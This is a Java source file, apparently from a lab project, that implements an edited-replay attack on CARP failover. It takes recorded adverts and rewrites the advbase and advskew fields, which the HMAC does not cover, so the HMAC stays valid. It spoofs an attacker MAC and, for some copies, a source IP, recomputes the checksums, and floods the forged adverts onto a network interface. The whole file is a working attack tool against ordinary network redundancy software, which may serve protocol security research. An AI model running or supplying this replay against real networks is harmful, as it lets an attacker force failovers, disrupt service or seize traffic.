package org.carpd.lab;

import java.nio.ByteBuffer;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.carpd.link.CapturedFrame;
import org.carpd.link.PcapFrameSource;
import org.carpd.proto.AdvertFrames;
import org.carpd.proto.CarpHeader;
import org.carpd.proto.InternetChecksum;
import org.pcap4j.core.PcapHandle;
import org.pcap4j.core.PcapNetworkInterface;

/**
 * Replays recorded CARP adverts (IPv4) with the fields CARP's HMAC does not cover edited in, which
 * keeps their HMAC valid: each recorded advert twice, once as advbase 255 / advskew 255 (a master
 * that "will time out": a backup takes over at once) from the master's own address, once as
 * advbase 0 / advskew 0 (more frequent than any master: it yields) from another address, all from
 * the attacker's MAC, with the CARP and IP checksums made right again.
 *
 * <p>Usage: {@code EditedReplay IFACE RECORDING SECONDS PPS}.
 */
public final class EditedReplay {
    static final byte[] ATTACKER_MAC = {0x02, 0x66, 0x66, 0x66, 0x66, 0x68};
    private static final int CARP = AdvertFrames.IP_OFFSET + 20;

    private EditedReplay() {
    }

    public static void main(String[] args) throws Exception {
        List<byte[]> frames = new ArrayList<>();
        try (PcapFrameSource recording = PcapFrameSource.openFile(Path.of(args[1]))) {
            CapturedFrame frame;
            while ((frame = recording.next()) != null) {
                frames.add(edit(frame.data(), 255, 255, null));
                frames.add(edit(frame.data(), 0, 0, new byte[] {(byte) 192, 0, 2, 66}));
            }
        }
        if (frames.isEmpty()) {
            throw new IllegalStateException("nothing recorded in " + args[1]);
        }
        int seconds = Integer.parseInt(args[2]);
        long pauseNs = 1_000_000_000L / Integer.parseInt(args[3]);
        PcapHandle handle = new PcapHandle.Builder(args[0]).snaplen(256)
                .promiscuousMode(PcapNetworkInterface.PromiscuousMode.NONPROMISCUOUS).timeoutMillis(100).build();
        long end = System.nanoTime() + seconds * 1_000_000_000L;
        long sent = 0;
        while (System.nanoTime() < end) {
            byte[] frame = frames.get((int) (sent % frames.size()));
            handle.sendPacket(frame, frame.length);
            sent++;
            java.util.concurrent.locks.LockSupport.parkNanos(pauseNs);
        }
        handle.close();
        System.out.printf("replay: sent %d edited copies of %d recorded adverts%n", sent, frames.size() / 2);
    }

    static byte[] edit(byte[] recorded, int advbase, int advskew, byte[] source) {
        ByteBuffer b = ByteBuffer.wrap(recorded.clone());
        System.arraycopy(ATTACKER_MAC, 0, b.array(), 6, 6);
        b.put(CARP + CarpHeader.ADVBASE_OFFSET, (byte) advbase);
        b.put(CARP + CarpHeader.ADVSKEW_OFFSET, (byte) advskew);
        b.putShort(CARP + CarpHeader.CHECKSUM_OFFSET, (short) 0);
        b.putShort(CARP + CarpHeader.CHECKSUM_OFFSET, (short) InternetChecksum.compute(b, CARP, CarpHeader.LENGTH));
        if (source != null) {
            int ip = AdvertFrames.IP_OFFSET;
            b.put(ip + 12, source);
            b.position(0);
            b.putShort(ip + 10, (short) 0);
            b.putShort(ip + 10, (short) InternetChecksum.compute(b, ip, 20));
        }
        return b.array();
    }
}
